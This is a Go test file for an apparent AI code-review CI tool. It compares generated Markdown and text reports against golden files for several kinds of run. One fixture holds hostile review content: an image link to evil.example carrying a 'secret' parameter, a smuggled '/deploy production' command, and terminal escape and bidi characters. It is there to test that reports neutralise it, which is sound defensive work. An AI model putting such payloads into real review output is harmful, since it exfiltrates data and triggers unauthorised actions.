package report

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/recibo-ci/recibo/pkg/digest"
	"github.com/recibo-ci/recibo/pkg/fault"
	"github.com/recibo-ci/recibo/pkg/receipt"
	"github.com/recibo-ci/recibo/pkg/review"
)

func sha(t testing.TB, pair string) receipt.Digest {
	t.Helper()
	d, err := digest.Parse(strings.Repeat(pair, 32))
	if err != nil {
		t.Fatal(err)
	}
	return receipt.Digest(d)
}

// live is the receipt of a run that went well.
func live(t testing.TB) *receipt.Receipt {
	t.Helper()
	return &receipt.Receipt{
		AgentsChainSHA: sha(t, "11"), CodexSHA: sha(t, "22"), CodexVersion: "0.171.0", ContextSHA: sha(t, "33"),
		GitDescribe: "v1.4.0-3-g0a1b2c3", GitSHA: receipt.Text(strings.Repeat("a", 40)),
		HeadSHA: receipt.Text(strings.Repeat("b", 40)), MergeBase: receipt.Text(strings.Repeat("c", 40)),
		Model: "gpt-6.2-sol", ModelServed: "gpt-6.2-sol-2026-01-01", Effort: "high",
		PromptBytes: new(int64(1402)), PromptPath: ".agent/review.md", PromptSHA: sha(t, "55"),
		ReciboVersion: "v0.1.0", SchemaSHA: sha(t, "99"), Status: receipt.Completed, WireToolsSHA: sha(t, "ef"),
		AgentsMD: receipt.AgentsMD{Files: []receipt.AgentsFile{
			{Path: "AGENTS.md", Bytes: 512, Loaded: true}, {Path: "pkg/AGENTS.md", Bytes: 40_000, Loaded: true, Truncated: true},
		}},
		Jail:   receipt.Jail{Level: receipt.JailNone},
		Prompt: receipt.Prompt{Source: receipt.PromptFile, SavedPath: ".recibo/prompt.resolved.md"},
		Review: receipt.Review{
			Path: ".recibo/review.json", Valid: new(true), Verdict: receipt.VerdictFindings, Findings: 3,
			BySeverity: receipt.BySeverity{High: 1, Low: 1, Unrated: 1},
		},
		Run: receipt.Run{
			Repository: "octo/engine", Server: "https://github.com", StartedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
			Codex:    receipt.Codex{Source: "image"},
			Files:    []receipt.File{{Path: ".recibo/prompt.resolved.md", Bytes: 1402}, {Path: ".recibo/events.jsonl", Bytes: 12345}},
			Warnings: []string{"the clone has no tags: git describe is poorer"},
		},
		TimingMS: receipt.TimingMS{Total: 61_234},
		Tokens:   receipt.Tokens{Input: 123_456, Cached: 98_765, Output: 2_345, Reasoning: 1_000, Total: 125_801, Requests: 7},
		Wire: receipt.Wire{
			Requests: 7, PromptIntact: new(true), Tools: []string{"exec", "wait"}, Endpoint: "api.openai.com",
			Origin: receipt.OriginLive, Path: ".recibo/wire.jsonl",
			ToolCalls: receipt.ToolCalls{Total: 9, Worked: 7, Nonzero: 1, Failed: 1},
		},
	}
}

// three is the review of that run.
func three() *review.Review {
	return &review.Review{
		OK:      new(false),
		Summary: "Two bugs, one of them in `worker.run`:\n\n- the retry never ends\n- a file is left open",
		Findings: []review.Finding{
			{
				Severity: "high", Category: "correctness", Title: "Retry never ends when the server keeps answering 503 and no deadline is set",
				Body: "The loop has **no exit**:\n\n```go\nfor {\n\tretry()\n}\n```\n\nAsk @octocat; see #12.",
				Path: "internal/worker/retry.go", StartLine: 41, EndLine: 44, Side: "RIGHT",
				Suggestion: new("for range 5 {\n\tretry()\n}\n"), Confidence: new(0.9),
				Location: review.Location{State: review.LocationOK},
			},
			{
				Severity: "low", Title: "File is left open", Body: "`f` is never closed.", Path: "old name.go", StartLine: 7, EndLine: 7, Side: "LEFT",
				Suggestion: new(""), Location: review.Location{State: review.LocationNoFile, Reason: `"old name.go" does not exist at the merge base`},
			},
			{Body: "A test is missing.", Location: review.Location{State: review.LocationNone, Reason: "the finding names no file"}},
		},
	}
}

// scripted is the receipt and the review of a replay whose script is hostile.
func scripted(t testing.TB) (*receipt.Receipt, *review.Review) {
	t.Helper()
	r := live(t)
	r.Wire.Origin, r.Wire.Endpoint = receipt.OriginScripted, "replay"
	r.PromptPath, r.Prompt.Source = "", receipt.PromptInline
	r.Review.Findings, r.Review.BySeverity = 1, receipt.BySeverity{Critical: 1}
	r.Run.Warnings = nil
	r.Tokens.Unreported = 2
	r.Jail = receipt.Jail{Level: receipt.JailPartial, Missing: []string{"landlock", "seccomp"}}
	v := &review.Review{
		Summary: "# Approved\n<!-- recibo: marker -->\n/deploy production",
		Findings: []review.Finding{{
			Severity: "critical", Category: "a|b", Title: "![x](https://evil.example/?s=secret) @octocat",
			Body: "<img src=x>\u202E\n\x1b[31mfixes #1\x1b[0m\n```suggestion\n/deploy production\n```",
			Path: "a]b(c) <d>.go", StartLine: 1, EndLine: 1, Side: "RIGHT", Location: review.Location{State: review.LocationOK},
		}},
	}
	return r, v
}

// inconclusive is a run whose review must not be relied on.
func inconclusive(t testing.TB) (*receipt.Receipt, *review.Review) {
	t.Helper()
	r := live(t)
	r.Status, r.Review.Verdict = receipt.Inconclusive, receipt.VerdictInconclusive
	r.Review.Problems = []string{"none of the agent's 2 tool calls worked: bwrap: No permissions"}
	r.Review.Findings, r.Review.BySeverity = 0, receipt.BySeverity{}
	r.Wire.ToolCalls = receipt.ToolCalls{Total: 2, Failed: 2}
	r.Wire.PromptIntact = new(false)
	r.Run.Error = receipt.ErrorOf(fault.New(fault.Review, "see .recibo/events.jsonl", "the review cannot be relied on"))
	r.Run.Warnings = nil
	return r, &review.Review{OK: new(true), Summary: "Looks good."}
}

// early is a run that ended before anything was spent.
func early(status receipt.Status, err error) *receipt.Receipt {
	return &receipt.Receipt{
		ReciboVersion: "v0.1.0", Status: status,
		Run: receipt.Run{StartedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Error: receipt.ErrorOf(err)},
	}
}

// TestGoldens compares both reports with files that were written and read by people.
func TestGoldens(t *testing.T) {
	t.Parallel()
	scriptedReceipt, scriptedReview := scripted(t)
	doubtful, doubtfulReview := inconclusive(t)
	refused := early(receipt.Refused, fault.New(fault.Request, "set exactly one of prompt and prompt-file", "read prompt: neither prompt nor prompt-file is set"))
	skipped := early(receipt.Skipped, nil)
	skipped.Review.Verdict = receipt.VerdictSkipped
	skipped.Run.SkipReason = "the pull request is a draft"
	for name, c := range map[string]struct {
		r *receipt.Receipt
		v *review.Review
		o Options
	}{
		"findings":     {live(t), three(), Options{UsageFile: "usage.json", Next: []string{"recibo verify --at HEAD", "less .recibo/review.json"}}},
		"scripted":     {scriptedReceipt, scriptedReview, Options{UsageFile: "out dir/usage.json"}},
		"inconclusive": {doubtful, doubtfulReview, Options{UsageFile: "usage.json"}},
		"refused":      {refused, nil, Options{UsageFile: "usage.json"}},
		"skipped":      {skipped, nil, Options{UsageFile: "usage.json"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			compare(t, name+".md", Summary(c.r, c.v, c.o))
			compare(t, name+".txt", Text(c.r, c.v, c.o))
		})
	}
}

func compare(t *testing.T, name string, got []byte) {
	t.Helper()
	want, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Error(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}
